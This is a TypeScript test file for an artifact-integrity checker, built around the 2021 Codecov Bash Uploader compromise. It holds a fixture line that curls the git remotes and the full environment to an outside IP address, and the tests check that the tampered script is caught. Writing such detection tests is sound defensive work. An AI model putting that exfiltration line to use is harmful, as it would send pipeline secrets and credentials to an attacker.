import { createHash } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { judgeArtifacts } from '../support/artifact-release.ts'
import { failing } from '../support/findings.ts'

/**
 * January to April 2021: Codecov's Bash Uploader was changed where it was hosted. One line sent the environment of every
 * pipeline that ran it away. Its SHA256SUM, published beside it, told; one user compared.
 */
const SCRIPT = '#!/usr/bin/env bash\ncurl -sm 0.5 -d "$payload" "$upload_url"\n'
const CHANGED = SCRIPT.replace(
  '\n',
  '\ncurl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://203.0.113.7/upload\n',
)
const POLICY = 'rules: {artifact/unversioned-path: {options: {layout: "uploader/{tag}/{file}"}}}\n'
const sums = (text: string): Buffer =>
  Buffer.from(`${createHash('sha256').update(text).digest('hex')}  uploader.sh\n`)

const release = (hosted: string, recorded: Buffer) =>
  judgeArtifacts({
    tree: { VERSION: '1.0.0\n', 'uploader.sh': SCRIPT },
    policy: POLICY,
    dist: { 'uploader.sh': Buffer.from(hosted), SHA256SUMS: recorded },
  })

describe('Codecov, 2021', () => {
  test('hosted bytes that differ from the recorded digest are stopped', async () => {
    const report = await release(CHANGED, sums(SCRIPT))
    expect(report.verdict).toBe('fail')
    expect(
      failing(report)
        .map(({ ruleId }) => ruleId)
        .sort(),
    ).toEqual(['artifact/broken-integrity', 'artifact/not-from-commit'])
  })

  test('also where the digest was changed with them: they are not the commit’s', async () => {
    const report = await release(CHANGED, sums(CHANGED))
    expect(failing(report).map(({ ruleId }) => ruleId)).toEqual(['artifact/not-from-commit'])
  })

  test('the script of the tag passes', async () => {
    const report = await release(SCRIPT, sums(SCRIPT))
    expect(failing(report)).toEqual([])
    expect(report.verdict).toBe('pass')
  })
})
